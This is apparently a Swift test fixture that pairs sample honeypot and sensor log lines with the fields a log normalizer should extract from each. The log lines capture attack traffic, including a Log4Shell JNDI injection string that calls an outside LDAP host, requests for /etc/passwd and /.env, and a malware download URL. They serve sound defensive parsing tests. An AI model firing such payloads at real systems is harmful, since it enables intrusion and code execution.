import Testing

/// A line of a built-in format, made from the facts, and what its record says.
struct FormatExample: Sendable, CustomTestStringConvertible {
  let format: String
  /// The lines up to and with the one that ends the event.
  let lines: [String]
  let type: String
  /// `Unknown` where the line has none.
  let attacker: String
  let service: String
  let time: String
  let fields: [String: String]
  let attribution: String

  init(
    _ format: String,
    _ lines: String...,
    type: String,
    service: String,
    attacker: String = "203.0.113.7",
    time: String = "2026-05-22 10:00:00",
    attribution: String = "field",
    _ fields: [String: String] = [:]
  ) {
    self.format = format
    self.lines = lines
    self.type = type
    self.attacker = attacker
    self.service = service
    self.time = time
    self.fields = fields
    self.attribution = attribution
  }

  var testDescription: String { "\(format) \(type)" }

  static let all: [FormatExample] = [
    FormatExample(
      "cowrie",
      #"{"eventid":"cowrie.login.success","username":"root","password":"pw","message":"login attempt [root/pw] succeeded","sensor":"hp","timestamp":"2026-05-22T10:00:00.123456Z","src_ip":"203.0.113.7","session":"c0ffee","protocol":"telnet"}"#,
      type: "login_attempt",
      service: "telnet",
      [
        "username": "root", "password": "pw", "outcome": "success", "session": "c0ffee",
        "native_event": "cowrie.login.success",
      ]
    ),
    FormatExample(
      "cowrie-text",
      "2026-05-22T10:00:00+0000 [HoneyPotSSHTransport,13,203.0.113.7] login attempt [b'root'/b'it\\'s'] failed",
      type: "login_attempt",
      service: "ssh",
      ["username": "root", "password": "it's", "outcome": "failure"]
    ),
    FormatExample(
      "sshesame",
      #"{"time":"2026-05-22T10:00:00Z","source":"203.0.113.7:40001","event_type":"password_auth","event":{"user":"root","accepted":false,"password":"pw"}}"#,
      type: "login_attempt",
      service: "ssh",
      ["src_port": "40001", "username": "root", "password": "pw", "outcome": "failure"]
    ),
    FormatExample(
      "sshesame-text",
      #"2026/05/22 10:00:00 [[2001:db8::7]:40001] authentication for user "a\"b" with password "pw" accepted"#,
      type: "login_attempt",
      service: "ssh",
      attacker: "2001:db8::7",
      ["src_port": "40001", "username": #"a"b"#, "password": "pw", "outcome": "success"]
    ),
    FormatExample(
      "endlessh",
      "2026-05-22T10:00:00.521Z CLOSE host=::ffff:203.0.113.7 port=39590 fd=4 time=20.017 bytes=20",
      type: "disconnect",
      service: "ssh",
      ["src_ip": "203.0.113.7", "src_port": "39590", "bytes": "20", "duration": "20.017"]
    ),
    FormatExample(
      "endlessh-go",
      "I0522 10:00:00.100000       1 client.go:66] ACCEPT host=203.0.113.7 port=40001 n=1/4096",
      type: "connect",
      service: "ssh",
      time: "-",
      ["src_port": "40001", "clients": "1/4096"]
    ),
    FormatExample(
      "opencanary",
      #"{"dst_host":"192.0.2.9","dst_port":3306,"local_time":"2026-05-22 12:00:00.1","logdata":{"PASSWORD":"pw","USERNAME":"root"},"logtype":8001,"node_id":"canary","src_host":"203.0.113.7","src_port":50123,"utc_time":"2026-05-22 10:00:00.000001"}"#,
      type: "login_attempt",
      service: "mysql",
      ["username": "root", "password": "pw", "dst_port": "3306", "native_event": "8001"]
    ),
    FormatExample(
      "dionaea",
      #"{"connection":{"protocol":"mssqld","transport":"tcp","type":"accept"},"credentials":[{"password":"p1","username":"sa"},{"password":"p2","username":"sb"}],"dst_ip":"::ffff:192.0.2.9","dst_port":1433,"src_hostname":"","src_ip":"::ffff:203.0.113.7","src_port":4444,"timestamp":"2026-05-22T10:00:00.690903"}"#,
      type: "session",
      service: "mssql",
      [
        "src_ip": "203.0.113.7", "dst_ip": "192.0.2.9", "username": "sa", "password": "p1",
        "credentials": #"[{"username":"sa","password":"p1"},{"username":"sb","password":"p2"}]"#,
      ]
    ),
    FormatExample(
      "heralding",
      #"{"timestamp":"2026-05-22 10:00:00.579981","duration":1,"session_id":"s1","source_ip":"203.0.113.7","source_port":58306,"destination_ip":"192.0.2.1","destination_port":21,"protocol":"ftp","num_auth_attempts":1,"auth_attempts":[{"timestamp":"2026-05-22 10:00:00.1","username":"admin","password":"pw"}],"session_ended":true,"auxiliary_data":{}}"#,
      type: "session",
      service: "ftp",
      ["session": "s1", "username": "admin", "password": "pw", "num_auth_attempts": "1"]
    ),
    FormatExample(
      "heralding-auth",
      "timestamp,auth_id,session_id,source_ip,source_port,destination_ip,destination_port,protocol,username,password,password_hash",
      #"2026-05-22 10:00:00.000001,a1,s1,203.0.113.7,40001,192.0.2.1,23,telnet,"ro,ot","line one"#,
      #"line ""two""","#,
      type: "login_attempt",
      service: "telnet",
      ["session": "s1", "username": "ro,ot", "password": "line one\nline \"two\"", "auth_id": "a1"]
    ),
    FormatExample(
      "beelzebub",
      #"{"event":{"DateTime":"2026-05-22T10:00:00Z","RemoteAddr":"[2001:db8::7]:40414","Protocol":"SSH","Command":"id","CommandOutput":"uid=0\n","Status":"Interaction","Msg":"SSH Terminal Session Interaction","ID":"5b0f","User":"","SourceIp":"","SourcePort":""},"level":"info","msg":"New Event"}"#,
      type: "command",
      service: "ssh",
      attacker: "2001:db8::7",
      ["src_port": "40414", "command": "id", "session": "5b0f", "event.CommandOutput": "uid=0\n"]
    ),
    FormatExample(
      "honeypots",
      #"{"action":"login","dest_ip":"192.0.2.9","dest_port":"23","password":"pw","protocol":"telnet","src_ip":"203.0.113.7","src_port":"40001","status":"failed","timestamp":"2026-05-22T10:00:00.1","username":"root"}"#,
      type: "login_attempt",
      service: "telnet",
      attribution: "header",
      ["username": "root", "password": "pw", "outcome": "failure", "dst_port": "23"]
    ),
    FormatExample(
      "glutton",
      #"{"time":"2026-05-22T10:00:00.123456789Z","level":"INFO","msg":"new connection","sensorID":"g1","dest_port":"23","src_ip":"203.0.113.7","src_port":"40001","handler":"telnet"}"#,
      type: "request",
      service: "telnet",
      ["src_port": "40001", "dst_port": "23", "level": "INFO"]
    ),
    FormatExample(
      "honeytrap",
      #"{"is_virtual":false,"start_time":"2026-05-22T10:00:00Z","attack_connection":{"protocol":"tcp","remote_ip":"203.0.113.7","remote_port":33333,"local_ip":"192.0.2.9","local_port":8081,"payload":{"length":0}}}"#,
      type: "session",
      service: "tcp",
      ["src_port": "33333", "dst_ip": "192.0.2.9", "attack_connection.payload.length": "0"]
    ),
    FormatExample(
      "honeytrap-text",
      "[2026-05-22 10:00:00] 203.0.113.7:58294 requesting udp connection on 192.0.2.1:1412.",
      type: "connect",
      service: "udp",
      ["src_port": "58294", "dst_ip": "192.0.2.1", "dst_port": "1412"]
    ),
    FormatExample(
      "redishoneypot",
      #"{"action":"Closed","addr":"203.0.113.7:30904","level":"info","msg":"","time":"2026-05-22 10:00:00"}"#,
      type: "command",
      service: "redis",
      ["src_port": "30904", "command": "Closed"]
    ),
    FormatExample(
      "mailoney",
      #"{"timestamp":"2026-05-22T10:00:00.000000Z","src_ip":"203.0.113.7","src_port":61000,"data":"EHLO x\r"}"#,
      type: "command",
      service: "smtp",
      ["command": "EHLO x\r", "src_port": "61000"]
    ),
    FormatExample(
      "sentrypeer",
      #"{"app_name":"sentrypeer","event_timestamp":"2026-05-22 10:00:00.805360455","event_uuid":"u1","created_by_node_id":"n1","transport_type":"UDP","source_ip":"203.0.113.7:5060","destination_ip":"192.0.2.1","called_number":"100","sip_method":"OPTIONS","sip_user_agent":"x","sip_message":"OPTIONS"}"#,
      type: "sip_request",
      service: "sip",
      ["src_ip": "203.0.113.7", "src_port": "5060", "method": "OPTIONS", "called_number": "100"]
    ),
    FormatExample(
      "ciscoasa",
      #"{'timestamp': '2026-05-22T10:00:00.915772', 'src_ip': '203.0.113.7', 'payload_printable': '"GET / HTTP/1.1" 200 -'}"#,
      type: "http_request",
      service: "https",
      ["src_ip": "203.0.113.7"]
    ),
    FormatExample(
      "citrixhoneypot",
      #"{"asctime":"2026-05-22 10:00:00,123","levelname":"INFO","message":"(203.0.113.7:40001): GET Header: /vpn/"}"#,
      type: "http_request",
      service: "https",
      ["src_port": "40001", "method": "GET", "url": "/vpn/"]
    ),
    FormatExample(
      "elasticpot",
      #"{"eventid":"elasticpot.attack","message":"Exploit","url":"/_search","payload":"{}","timestamp":"2026-05-22T10:00:00.000001Z","src_ip":"203.0.113.7","src_port":43266,"dst_port":9200,"sensor":"s","request":"POST","user_agent":"curl/8","dst_ip":"192.0.2.9"}"#,
      type: "http_attack",
      service: "elasticsearch",
      ["method": "POST", "url": "/_search", "payload": "{}"]
    ),
    FormatExample(
      "ipphoney",
      #"{"eventid":"ipphoney.connect","message":"Connection","timestamp":"2026-05-22T10:00:00.000001+00:00Z","src_ip":"203.0.113.7","src_port":40001,"dst_ip":"192.0.2.9","dst_port":631,"sensor":"s","request":"GET","url":"/","user_agent":"curl/8"}"#,
      type: "connect",
      service: "ipp",
      ["method": "GET", "url": "/"]
    ),
    FormatExample(
      "galah",
      #"{"eventTime":"2026-05-22T10:00:00.697942+02:00","httpRequest":{"body":"","bodySha256":"e3b0","method":"GET","protocolVersion":"HTTP/1.1","request":"/x","sessionID":"1","userAgent":"curl"},"msg":"successfulResponse","port":"8080","sensorName":"g","srcIP":"203.0.113.7","srcPort":"51490"}"#,
      type: "http_request",
      service: "http",
      ["src_port": "51490", "dst_port": "8080", "url": "/x", "sha256": "e3b0"]
    ),
    FormatExample(
      "go-pot",
      #"{"level":"info","ts":1779444000.25,"type":"ftp","id":"i1","phase":"start","src_ip":"203.0.113.7","dest_port":"21","user":"root","pass":"pw"}"#,
      type: "request",
      service: "ftp",
      attribution: "header",
      ["session": "i1", "username": "root", "password": "pw"]
    ),
    FormatExample(
      "h0neytr4p",
      #"{"dest_port":"443","header_src_ip":"198.51.100.66","hostname":"192.0.2.1","protocol":"https","request_method":"GET","request_uri":"/.env","src_ip":"203.0.113.7","timestamp":"2026-05-22T10:00:00Z","trapped":"true","trapped_for":"env","user-agent":"curl/8"}"#,
      type: "http_attack",
      service: "https",
      attribution: "header",
      ["url": "/.env", "user_agent": "curl/8", "header_src_ip": "198.51.100.66"]
    ),
    FormatExample(
      "hellpot",
      #"{"level":"info","USERAGENT":"x","REMOTE_ADDR":"203.0.113.7","URL":"/wp-login.php","time":"2026-05-22T10:00:00Z","message":"NEW"}"#,
      type: "http_request",
      service: "http",
      attribution: "header",
      ["url": "/wp-login.php", "user_agent": "x"]
    ),
    FormatExample(
      "honeyaml",
      #"{"timestamp":"2026-05-22T10:00:00.000001Z","level":"WARN","src_ip":"203.0.113.7","path":"/api","method":"POST","status_code":401,"dest_port":"3000","target":"honeyaml::access-log"}"#,
      type: "http_request",
      service: "http",
      ["url": "/api", "method": "POST", "status_code": "401"]
    ),
    FormatExample(
      "log4pot",
      #"{"reason":"exploit","timestamp":"2026-05-22T10:00:00.000002","correlation_id":"c1","location":"header-X","payload":"${jndi:ldap://198.51.100.66/a}"}"#,
      type: "http_attack",
      service: "http",
      attacker: "Unknown",
      attribution: "none",
      ["session": "c1", "payload": "${jndi:ldap://198.51.100.66/a}"]
    ),
    FormatExample(
      "tanner",
      #"{"method":"GET","path":"/","headers":{"user-agent":"x","src_ip":"198.51.100.66"},"uuid":"u1","peer":{"ip":"203.0.113.7","port":27764},"status":200,"cookies":{"sess_uuid":null},"response_msg":{"response":{"message":{"sess_uuid":"s1"}}},"timestamp":"2026-05-22T10:00:00.321442"}"#,
      type: "http_request",
      service: "http",
      ["src_port": "27764", "session": "s1", "user_agent": "x", "headers.src_ip": "198.51.100.66"]
    ),
    FormatExample(
      "wordpot",
      #"{"timestamp":"2026-05-22T10:00:00.1","src_ip":"203.0.113.7","src_port":40001,"dest_port":80,"plugin":"badlogin","username":"admin","password":"pw","url":"http://192.0.2.1/wp-login.php","user_agent":"x"}"#,
      type: "login_attempt",
      service: "http",
      ["username": "admin", "password": "pw"]
    ),
    FormatExample(
      "conpot",
      #"{"timestamp":"2026-05-22T10:00:00.201000","sensorid":"default","id":"7c7d","src_ip":"203.0.113.7","src_port":54011,"dst_ip":"192.0.2.9","dst_port":502,"public_ip":null,"data_type":"modbus","request":"b'\\x00'","response":null,"event_type":null}"#,
      type: "request",
      service: "modbus",
      ["session": "7c7d", "command": #"b'\x00'"#]
    ),
    FormatExample(
      "conpot-text",
      "2026-05-22 10:00:00,901 New IEC 104 connection from 203.0.113.7:48763. (60de1a8c)",
      type: "connect",
      service: "conpot",
      ["src_port": "48763", "session": "60de1a8c", "protocol": "IEC 104"]
    ),
    FormatExample(
      "adbhoney",
      #"{"eventid":"adbhoney.session.file_download","session":"s1","src_url":"http://192.0.2.66/x","shasum":"ab","timestamp":"2026-05-22T10:00:00.000001Z","sensor":"a"}"#,
      type: "download",
      service: "adb",
      attacker: "Unknown",
      attribution: "none",
      ["url": "http://192.0.2.66/x", "sha256": "ab"]
    ),
    FormatExample(
      "medpot",
      #"{"level":"info","message":"Connection found","timestamp":"22 May 26 10:00 UTC","src_port":"40001","src_ip":"203.0.113.7","data":"TVNI"}"#,
      type: "request",
      service: "hl7",
      ["src_port": "40001", "data": "TVNI"]
    ),
    FormatExample(
      "miniprint",
      #"{"timestamp":"2026-05-22T10:00:00.123456Z","info":"Requested item","src_ip":"203.0.113.7","dest_port":9100,"action":"request","event":"fsquery","item":"0:/etc/passwd"}"#,
      type: "request",
      service: "printer",
      ["command": "0:/etc/passwd", "native_event": "fsquery"]
    ),
    FormatExample(
      "fatt",
      #"{"timestamp":"2026-05-22T10:00:00.1","sourceIp":"203.0.113.7","destinationIp":"192.0.2.1","sourcePort":"59290","destinationPort":"22","protocol":"ssh","ssh":{"client":"SSH-2.0-Go","hassh":"0a07"}}"#,
      type: "fingerprint",
      service: "ssh",
      attacker: "Unknown",
      attribution: "none",
      ["src_ip": "203.0.113.7", "ssh.hassh": "0a07", "dst_port": "22"]
    ),
    FormatExample(
      "p0f",
      #"{"timestamp":"2026/05/22 10:00:00","mod":"syn","client_ip":"203.0.113.7","server_ip":"192.0.2.1","client_port":46882,"server_port":80,"subject":"cli","os":"Linux"}"#,
      type: "fingerprint",
      service: "p0f",
      attacker: "Unknown",
      attribution: "none",
      ["src_ip": "203.0.113.7", "src_port": "46882", "mod": "syn", "os": "Linux"]
    ),
    FormatExample(
      "suricata",
      #"{"timestamp":"2026-05-22T10:00:00.655377+0000","flow_id":1964645431812664,"event_type":"http","src_ip":"203.0.113.7","src_port":123,"dest_ip":"192.0.2.1","dest_port":80,"proto":"TCP","app_proto":"http","flow":{"src_ip":"198.51.100.66"},"http":{"url":"/x","http_method":"GET"}}"#,
      type: "http_request",
      service: "http",
      attacker: "Unknown",
      attribution: "none",
      ["src_ip": "203.0.113.7", "session": "1964645431812664", "url": "/x", "flow.src_ip": "198.51.100.66"]
    ),
  ]
}
